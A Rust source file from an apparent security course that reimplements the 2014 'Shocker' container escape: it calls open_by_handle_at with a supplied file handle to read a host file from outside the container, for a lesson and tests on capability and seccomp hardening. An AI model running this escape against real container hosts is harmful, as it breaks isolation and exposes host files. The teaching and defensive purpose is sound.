//! "Shocker" (2014): reading a host file from inside a container with
//! open_by_handle_at(2). For the lesson and the tests of chapter 8. Build
//! it as a static program:
//!
//! ```text
//! rustc -O -C target-feature=+crt-static chapters/08-security/attacks/shocker.rs -o /tmp/shocker
//! ```
//!
//! Usage: `shocker HANDLE_TYPE HEX_HANDLE`. A file handle names an inode
//! of a filesystem by number, not by path: given any descriptor on the
//! same filesystem (here the container's `/`), open_by_handle_at opens
//! the inode wherever it is, outside the container's root too. The 2014
//! exploit guessed handles (ext4's are small: an inode number and a
//! generation); here the test hands us the handle of its own scratch
//! file. It needs CAP_DAC_READ_SEARCH and a seccomp filter that lets the
//! call through: chapter 8 takes both away.

use std::fs::File;
use std::io::{Error, Read};
use std::os::fd::{AsRawFd, FromRawFd};

extern "C" {
    fn syscall(number: i64, ...) -> i64;
}

#[cfg(target_arch = "x86_64")]
const SYS_OPEN_BY_HANDLE_AT: i64 = 304;
#[cfg(target_arch = "aarch64")]
const SYS_OPEN_BY_HANDLE_AT: i64 = 265;

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let (Some(kind), Some(hex)) = (args.get(1), args.get(2)) else {
        eprintln!("usage: shocker HANDLE_TYPE HEX_HANDLE");
        std::process::exit(2);
    };
    let kind: i32 = kind.parse().expect("HANDLE_TYPE is a number");
    let bytes: Vec<u8> = (0..hex.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&hex[i..i + 2], 16).expect("HEX_HANDLE is hex"))
        .collect();
    // struct file_handle { unsigned int handle_bytes; int handle_type;
    // unsigned char f_handle[]; }
    let mut handle = Vec::with_capacity(8 + bytes.len());
    handle.extend_from_slice(&(bytes.len() as u32).to_ne_bytes());
    handle.extend_from_slice(&kind.to_ne_bytes());
    handle.extend_from_slice(&bytes);

    // Any descriptor on the same filesystem will do: our root.
    let root = File::open("/").expect("open /");
    // SAFETY: `handle` is a complete struct file_handle, alive for the call.
    let fd = unsafe { syscall(SYS_OPEN_BY_HANDLE_AT, root.as_raw_fd() as i64, handle.as_ptr(), 0i64) };
    if fd < 0 {
        println!("open_by_handle_at: {}", Error::last_os_error());
        std::process::exit(1);
    }
    // SAFETY: the kernel just gave us this descriptor; nothing else owns it.
    let mut file = unsafe { File::from_raw_fd(fd as i32) };
    let mut content = String::new();
    file.read_to_string(&mut content).expect("read");
    print!("{content}");
}
